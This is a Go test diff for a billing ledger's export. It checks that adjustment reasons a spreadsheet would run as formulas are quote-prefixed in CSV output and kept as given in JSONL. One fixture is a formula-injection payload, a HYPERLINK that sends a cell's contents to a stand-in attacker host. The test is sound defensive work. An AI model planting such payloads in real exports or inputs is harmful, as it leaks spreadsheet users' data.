@@ -289,3 +289,61 @@ func TestSummarize(t *testing.T) {
 		})
 	}
 }
+
+// TestExportCSVReasonIsText: an adjustment's reason that a spreadsheet
+// would run as a formula (it starts with =, +, -, @, a tab or a CR) is
+// written to the CSV with a leading ', and kept as it is in JSONL.
+func TestExportCSVReasonIsText(t *testing.T) {
+	ctx := context.Background()
+	l := billing.NewLedger(redistest.Start(t).Client())
+	at := month.Add(time.Hour)
+	reasons := map[string]string{
+		`=HYPERLINK("http://evil.example/?"&A2,"refund")`: `'=HYPERLINK("http://evil.example/?"&A2,"refund")`,
+		"+1 for the outage": "'+1 for the outage",
+		"-50% goodwill":     "'-50% goodwill",
+		"@SUM(A1:A9)":       "'@SUM(A1:A9)",
+		"\tcmd":             "'\tcmd",
+		"outage, ticket 12": "outage, ticket 12",
+	}
+	i := 0
+	for reason := range reasons {
+		e := billing.UsageEntry{ID: fmt.Sprintf("adj:%02d", i), Kind: billing.KindAdjustment, Final: true, AccountID: "acct_r",
+			WorkspaceID: "ws_r", Corrects: "ws_r:final", Currency: "USD", AmountMicros: -1, TerminatedAt: at, Reason: reason}
+		if _, err := l.Append(ctx, e); err != nil {
+			t.Fatal(err)
+		}
+		i++
+	}
+	var csvOut, jsonl bytes.Buffer
+	if _, err := billing.Export(ctx, l, []string{"acct_r"}, monthFilter(), billing.FormatCSV, &csvOut); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := billing.Export(ctx, l, []string{"acct_r"}, monthFilter(), billing.FormatJSONL, &jsonl); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&csvOut).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := slices.Index(billing.Columns, "reason")
+	got := map[string]bool{}
+	for _, r := range recs[1:] {
+		got[r[col]] = true
+	}
+	var inJSON []string
+	for line := range strings.Lines(jsonl.String()) {
+		var row struct{ Reason string }
+		if err := json.Unmarshal([]byte(line), &row); err != nil {
+			t.Fatal(err)
+		}
+		inJSON = append(inJSON, row.Reason)
+	}
+	for reason, want := range reasons {
+		if !got[want] {
+			t.Errorf("CSV reason for %q: not %q among %v", reason, want, got)
+		}
+		if !slices.Contains(inJSON, reason) {
+			t.Errorf("JSONL lost the reason %q as given: %q", reason, inJSON)
+		}
+	}
+}
